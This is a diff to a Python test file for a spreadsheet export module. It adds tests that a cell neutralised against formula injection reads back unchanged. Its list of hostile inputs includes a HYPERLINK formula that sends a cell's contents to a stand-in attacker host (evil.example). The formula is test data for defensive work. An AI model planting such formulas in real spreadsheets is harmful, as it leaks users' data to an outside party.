@@ -9,7 +9,7 @@ import zipfile
 import openpyxl
 import pytest
 
-from haven_core.spreadsheets import csv_bytes, csv_cell, is_formula_like, xlsx_bytes
+from haven_core.spreadsheets import csv_bytes, csv_cell, is_formula_like, unquoted_cell, xlsx_bytes
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&B2,"Open")',
@@ -37,6 +37,16 @@ def test_what_a_spreadsheet_would_evaluate_is_formula_like(text: str) -> None:
 def test_ordinary_text_and_negative_numbers_are_left_alone(text: str) -> None:
     assert not is_formula_like(text)
     assert csv_cell(text) == text
+
+
+@pytest.mark.parametrize("text", HOSTILE + HARMLESS + ["'quoted", "'-12", "''=1", "'"])
+def test_a_cell_read_back_loses_only_the_quote_the_writer_added(text: str) -> None:
+    assert unquoted_cell(csv_cell(text)) == text
+
+
+def test_a_quote_before_anything_but_a_formula_is_the_persons_own() -> None:
+    assert [unquoted_cell(t) for t in ("'-12", "'Котова", "''=1", "'")] == ["'-12", "'Котова", "''=1", "'"]
+    assert unquoted_cell("'=1+1") == "=1+1"  # neutralised or typed, it cannot be told apart: read as =1+1
 
 
 def test_csv_quotes_every_hostile_cell_and_keeps_the_rest() -> None:
